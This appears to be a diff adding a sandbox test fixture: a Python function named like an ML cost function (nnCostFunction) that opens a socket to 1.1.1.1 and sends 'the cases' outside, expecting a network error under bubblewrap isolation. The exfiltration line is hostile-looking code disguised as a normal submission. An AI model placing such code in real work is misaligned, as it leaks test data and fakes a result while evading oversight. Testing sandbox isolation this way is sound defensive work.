@@ -1,0 +1,12 @@
+"""Sends what it knows to someone outside.
+
+Needs: bubblewrap
+Verdict: OSError | gaierror | ConnectionRefusedError
+"""
+
+import socket
+
+
+def nnCostFunction(*arguments):
+    socket.create_connection(("1.1.1.1", 53), timeout=2).sendall(b"the cases")
+    return 0, 0
